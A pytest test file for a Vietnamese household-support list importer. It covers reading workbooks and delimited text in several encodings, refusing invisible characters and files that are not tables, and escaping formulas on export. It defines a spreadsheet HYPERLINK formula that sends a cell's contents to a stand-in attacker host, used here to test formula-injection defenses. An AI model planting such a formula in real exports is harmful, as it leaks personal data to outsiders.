"""Lists in every form agencies send: workbooks and delimited text, Windows-1258 and NFD, read or refused by line
and field; the template; exports that never run a formula. Pure reading: no servers."""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from core.cells import append_row, safe_cell
from operations import tables
from operations.csv_list import LEADING_ZERO, VIETNAMESE, parse, template_xlsx, to_csv
from operations.reconciliation import GroupLine, Reconciliation, SourceLine, write_csv, write_xlsx
from operations.reform import Handover, write_handover_xlsx
from operations.tables import TableRefused, read_table

VI_HEADER = [
    "STT",
    "Mã hộ",
    "Họ tên chủ hộ",
    "Số CCCD",
    "Tỉnh",
    "Huyện",
    "Xã",
    "Đối tượng",
    "Loại hỗ trợ",
    "Số quyết định",
]
ROW = ["1", "LB-0001", "Nông Thị Lan", "020190000101", "Lạng Sơn", "Lộc Bình", "Tú Mịch", "Hộ cận nghèo", "Sửa chữa"]
DECISION = "270/QĐ-UBND"
EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Xem")'

# cp1258 writes most toned letters as a base letter and a combining tone mark: how Windows-1258 files come.
_TONES = {"\u0300", "\u0301", "\u0303", "\u0309", "\u0323"}


def cp1258(text: str) -> bytes:
    out = b""
    for ch in unicodedata.normalize("NFC", text):
        try:
            out += ch.encode("cp1258")
        except UnicodeEncodeError:
            parts = unicodedata.normalize("NFD", ch)
            base = unicodedata.normalize("NFC", "".join(p for p in parts if p not in _TONES))
            out += (base + "".join(p for p in parts if p in _TONES)).encode("cp1258")
    return out


def lines(*rows: list[str], sep: str = ";") -> str:
    return "".join(sep.join(r) + "\r\n" for r in rows)


def workbook(*rows: list) -> bytes:
    wb = openpyxl.Workbook()
    for r in rows:
        wb.active.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def problems_of(data: bytes, name: str = "list.csv") -> list[str]:
    return [str(p) for p in parse(data, name)[1]]


def test_a_semicolon_windows_1258_list_with_vietnamese_headers_is_read():
    data = cp1258(
        lines(
            VI_HEADER,
            ROW + [DECISION],
            [],
            ["2", "LB-0002", "Hà Văn Hùng", "020190000102", *ROW[4:6], "Mẫu Sơn", "Người có công", "Xây mới", DECISION],
        )
    )
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")  # really not UTF-8
    rows, problems = parse(data, "danh-sach.csv")
    assert problems == []
    assert [r.line for r in rows] == [2, 4]  # the blank line 3 is counted, not read
    first, second = (r.household for r in rows)
    assert (first.head_of_household, first.commune, first.decision_ref) == ("Nông Thị Lan", "Tú Mịch", DECISION)
    assert unicodedata.is_normalized("NFC", first.head_of_household + first.commune + second.commune)
    assert (first.beneficiary_group.value, first.support_type.value) == ("near_poor", "repair")
    assert (second.beneficiary_group.value, second.support_type.value) == ("meritorious", "new_build")


@pytest.mark.parametrize("sep", [",", ";", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1258", "utf-16"])
def test_every_separator_and_encoding_reads_the_same(sep, encoding):
    text = lines(VI_HEADER, ROW + [DECISION], sep=sep)
    data = cp1258(text) if encoding == "cp1258" else text.encode(encoding)
    rows, problems = parse(data, "list.txt")
    assert problems == [] and rows[0].household.cccd == "020190000101"


def test_headers_match_without_case_diacritics_or_spacing_and_english_ones_too():
    header = ["ma ho", "HỌ TÊN CHỦ HỘ", "so cccd", "Tinh", "huyện", "Phường", "doi tuong", "Loai ho tro", "Số QĐ"]
    rows, problems = parse(lines(header, ROW[1:] + [DECISION], sep=",").encode(), "x.csv")
    assert problems == [] and rows[0].household.commune == "Tú Mịch"
    assert parse(to_csv([rows[0].household]))[1] == []  # the engine's own names


def test_nfd_typed_cells_are_stored_nfc():
    nfd = [unicodedata.normalize("NFD", c) for c in ROW + [DECISION]]
    assert nfd[6] != "Tú Mịch"
    rows, problems = parse(lines([unicodedata.normalize("NFD", h) for h in VI_HEADER], nfd).encode(), "mac.csv")
    assert problems == [] and rows[0].household.commune == "Tú Mịch" and rows[0].household.district == "Lộc Bình"


def test_an_xlsx_list_is_read_with_whole_numbers_and_dates_as_people_see_them():
    data = workbook(
        VI_HEADER + ["Ngày duyệt"],
        [1, "LB-0001", "Nông Thị Lan", "020190000101", *ROW[4:], DECISION, datetime(2025, 3, 7)],
        [],
        [2, "LB-0002", "Hà Văn Hùng", 201900001.0 * 100 + 2, *ROW[4:], DECISION, date(2025, 3, 8)],
    )
    table = read_table(data, "ds.xlsx")
    assert [line for line, _ in table.rows] == [2, 4]
    assert table.rows[0][1]["STT"] == "1" and table.rows[0][1]["Ngày duyệt"] == "07/03/2025"
    assert table.rows[1][1]["Số CCCD"] == "20190000102"  # a number column: the leading zero is gone
    rows, problems = parse(data, "ds.xlsx")
    assert [str(p) for p in problems] == [f"line 4, field Số CCCD: {LEADING_ZERO} (got '20190000102')"]


def test_an_eleven_digit_cccd_names_the_lost_leading_zero():
    (problem,) = problems_of(lines(VI_HEADER, ROW[:3] + ["20190000101"] + ROW[4:] + [DECISION]).encode())
    assert problem.startswith("line 2, field Số CCCD: has 11 digits: leading zero lost?")
    assert "format the column as text" in problem


@pytest.mark.parametrize("char", ["\u202e", "\u200f", "\u2066", "\u200b", "\ufeff", "\x07"])
def test_an_invisible_or_control_character_is_refused_naming_line_and_field(char):
    name = f"Nông Thị{char} Lan"
    (problem,) = problems_of(lines(VI_HEADER, ROW + [DECISION], ROW[:2] + [name] + ROW[3:] + [DECISION]).encode())
    assert problem.startswith(f"line 3, field Họ tên chủ hộ: holds U+{ord(char):04X}")
    assert "character 9" in problem


def test_a_row_with_more_cells_than_the_header_is_refused():
    problems = problems_of(lines(VI_HEADER, ROW + [DECISION, "thừa"]).encode())
    assert problems == [f"line 2, field row: has {len(VI_HEADER) + 1} cells, the header has {len(VI_HEADER)}"]


def test_a_quoted_cell_over_two_lines_counts_both():
    text = (
        lines(VI_HEADER, ROW + [DECISION], sep=",")
        + '3,LB-0003,"Hà Văn\nHùng",02019000010,'
        + ",".join(ROW[4:] + [DECISION])
        + "\r\n"
    )
    assert problems_of(text.encode()) == [f"line 3, field Số CCCD: {LEADING_ZERO} (got '02019000010')"]
    text += lines(ROW[:1] + ["LB-0004", "Lý Văn", "12"] + ROW[4:] + [DECISION], sep=",")
    assert [p.split(":")[0] for p in problems_of(text.encode())] == ["line 3, field Số CCCD", "line 5, field Số CCCD"]


def test_a_missing_column_is_named_with_its_vietnamese_header():
    problems = problems_of(lines(VI_HEADER[:-1], ROW).encode())
    assert problems == [
        f"line 1, field decision_ref: column is missing from the header (in Vietnamese: {VIETNAMESE['decision_ref']!r})"
    ]


@pytest.mark.parametrize(
    ("data", "what"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "Excel 97-2003"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "PDF"),
        (b"<html><body><table><tr><td>M\xc3\xa3 h\xe1\xbb\x99</td></tr></table>", "web page"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "PNG"),
        (b"binary\x00\x01\x02", "not text"),
    ],
)
def test_a_file_that_is_not_a_table_is_refused_saying_what_it_is(data, what):
    (problem,) = problems_of(data, "danh-sach.xls")
    assert problem.startswith("line 1, field file: danh-sach.xls is") and what in problem


def test_a_docx_renamed_xlsx_is_refused():
    buf = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("word/document.xml", "<w:document/>")
    assert "Word document" in problems_of(buf.getvalue(), "ds.xlsx")[0]


def test_the_work_is_bounded_by_size_and_rows():
    too_big = b"a,b\n" + b"x" * tables.MAX_BYTES
    assert "at most 20 MB" in problems_of(too_big)[0]
    many = ("code\n" + "A1\n" * (tables.MAX_ROWS + 1)).encode()
    with pytest.raises(TableRefused) as refused:
        read_table(many, "many.csv")
    assert refused.value.problems[-1].message == f"more than {tables.MAX_ROWS:,} rows: split the list"


def test_the_template_is_vietnamese_keeps_cccd_as_text_and_imports_as_it_is():
    data = template_xlsx()
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    header = [c.value for c in ws[1]]
    assert header[:3] == ["Mã hộ", "Họ tên chủ hộ", "Số CCCD"]
    cccd = header.index("Số CCCD") + 1
    assert ws.cell(row=2, column=cccd).data_type == "s" and ws.cell(row=2, column=cccd).value.startswith("0")
    assert ws.cell(row=3, column=cccd).number_format == "@"  # the rows an officer fills in
    rows, problems = parse(data, "mau-danh-sach.xlsx")
    assert problems == [] and len(rows) == 1 and rows[0].household.cccd == ws.cell(row=2, column=cccd).value


def test_the_template_command_writes_it(tmp_path: Path):
    from typer.testing import CliRunner

    from cli.households import app

    out = tmp_path / "mau-danh-sach.xlsx"
    done = CliRunner().invoke(app, ["households", "template", "--out", str(out)])
    assert done.exit_code == 0, done.output
    assert parse(out.read_bytes(), out.name)[1] == []


# ------------------------------------------------------------------------------------------- exports


def test_formula_like_text_is_never_a_formula_and_numbers_stay_numbers():
    assert [safe_cell(v) for v in (EVIL, "+84 912", "-", "@x", "\tA", "Lan", 5, -5)] == [
        "'" + EVIL,
        "'+84 912",
        "'-",
        "'@x",
        "'\tA",
        "Lan",
        5,
        -5,
    ]
    wb = openpyxl.Workbook()
    append_row(wb.active, [EVIL, 1_200_000, "Lan"])
    assert [c.data_type for c in wb.active[1]] == ["s", "n", "s"]


def test_an_exported_name_stays_text_in_the_reconciliation_and_the_handover(tmp_path: Path):
    rec = Reconciliation(
        sources=[SourceLine(code="NSTW", name=EVIL, category="central_budget", state_budget=True, received=7)],
        districts=[GroupLine(key=EVIL, households=1)],
        decisions=[GroupLine(key=DECISION)],
        receivables=[],
        communes=[GroupLine(key="@Tú Mịch")],
    )
    wb = openpyxl.load_workbook(write_xlsx(rec, tmp_path / "doi-chieu.xlsx"))
    found = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value in (EVIL, "@Tú Mịch")]
    assert len(found) == 3 and {c.data_type for c in found} == {"s"}
    money = [c for c in wb["Theo nguồn"][2] if c.value == 7]  # received, and free
    assert money and {c.data_type for c in money} == {"n"}  # money stays a number
    write_csv(rec, tmp_path)
    with (tmp_path / "reconciliation_by_district.csv").open(encoding="utf-8-sig", newline="") as f:
        assert list(csv.reader(f))[1][:2] == ["'" + EVIL, "1"]
    handover = Handover("NS-LB", "Lộc Bình", "Lạng Sơn", "NSDP", 1, 0, 0, 0, 1, 0, None, [EVIL], True)
    ws = openpyxl.load_workbook(write_handover_xlsx([handover], tmp_path / "bb.xlsx", "NQ 1")).active
    cell = ws.cell(row=3, column=11)
    assert (cell.value, cell.data_type) == (EVIL, "s")


def test_a_list_written_by_to_csv_quotes_what_needs_quoting():
    from tests.conftest import make_households

    h = make_households(1)[0].model_copy(update={"head_of_household": "Lan, Nông Thị"})
    rows, problems = parse(to_csv([h]))
    assert problems == [] and rows[0].household.head_of_household == "Lan, Nông Thị"


def test_a_refused_cell_and_a_bad_row_elsewhere_are_reported_at_once():
    bad_cccd = ROW[:3] + ["20190000101"] + ROW[4:] + [DECISION]
    bidi = ROW[:2] + ["Lan\u202e"] + ROW[3:] + [DECISION]
    problems = problems_of(lines(VI_HEADER, bidi, bad_cccd).encode())
    assert [p.split(":")[0] for p in problems] == ["line 2, field Họ tên chủ hộ", "line 3, field Số CCCD"]
